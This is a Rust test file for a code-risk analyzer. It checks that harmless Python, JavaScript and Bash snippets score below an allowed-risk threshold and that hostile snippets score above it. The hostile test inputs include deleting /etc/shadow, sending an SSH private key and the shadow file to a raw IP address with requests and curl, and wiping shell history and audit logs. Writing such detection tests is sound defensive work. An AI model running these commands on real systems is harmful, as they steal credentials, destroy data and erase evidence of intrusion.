//! What is judged how: small programs, read whole.

use super::MAX_ALLOWED_RISK;
use crate::ir::Language;
use crate::{Bounds, SourceFile, Submission, analyze};
use casemate_types::analysis::Risk;

fn risk_of(language: Language, text: &str) -> Risk {
    let file = SourceFile {
        path: "main".to_owned(),
        language: Some(language),
        bytes: text.as_bytes().to_vec(),
    };
    analyze(&Submission { files: vec![file] }, &Bounds::default()).risk
}

#[test]
fn what_only_computes_may_run() {
    for (language, text) in [
        (
            Language::Python,
            "def add(a, b):\n    return a + b\n\nprint(add(1, 2))\n",
        ),
        (
            Language::Python,
            "import json\nwith open('data.json') as file:\n    print(json.load(file))\n",
        ),
        (
            Language::JavaScript,
            "const words = ['a', 'b'];\nconsole.log(words.map(w => w.toUpperCase()));\n",
        ),
        (Language::Bash, "find . -name '*.txt' -print0 | xargs -0 wc -l\n"),
        (Language::Bash, "for f in *.log; do gzip \"$f\"; done\n"),
    ] {
        let risk = risk_of(language, text);
        assert!(risk.score < MAX_ALLOWED_RISK, "{text}: {risk:?}");
    }
}

#[test]
fn what_a_program_does_to_itself_may_run() {
    for text in [
        "import subprocess\nprint(subprocess.run(['echo', 'plain'], capture_output=True).stdout)\n",
        "import subprocess\nsubprocess.run(['sh', '-c', 'exit 7'])\nsubprocess.run('ls | sort', shell=True)\n",
        "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)\n",
        "import socket\nserver = socket.create_server(('127.0.0.1', 0))\nsocket.create_connection(server.getsockname())\n",
        "import os, platform\nprint(os.uname(), platform.machine(), os.path.exists('/proc/self/maps'))\n",
        "import tempfile\nwith tempfile.NamedTemporaryFile() as file:\n    file.write(b'x')\n    print(open(file.name).read())\n",
    ] {
        let risk = risk_of(Language::Python, text);
        assert!(risk.score < MAX_ALLOWED_RISK, "{text}: {risk:?}");
    }
}

#[test]
fn what_harms_the_machine_may_not() {
    for (language, text) in [
        (Language::Python, "import os\nos.remove('/etc/shadow')\n"),
        (
            Language::Python,
            "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://45.66.77.88:8081/', data=key)\n",
        ),
        (
            Language::Bash,
            "cat /etc/shadow > /tmp/out\ncurl -F file=@/tmp/out http://45.66.77.88/\n",
        ),
        (
            Language::Bash,
            "history -c\nunset HISTFILE\nrm -rf /var/log/audit\n",
        ),
    ] {
        let risk = risk_of(language, text);
        assert!(risk.score >= MAX_ALLOWED_RISK, "{text}: {risk:?}");
        assert!(!risk.reasons.is_empty() && risk.intent > 0.0, "{risk:?}");
    }
}

#[test]
fn weakness_has_an_axis_of_its_own() {
    let weak = risk_of(
        Language::Python,
        "import hashlib\nprint(hashlib.md5(b'password').hexdigest())\n",
    );
    assert!(weak.score < MAX_ALLOWED_RISK && weak.weakness < 1.0, "{weak:?}");
}
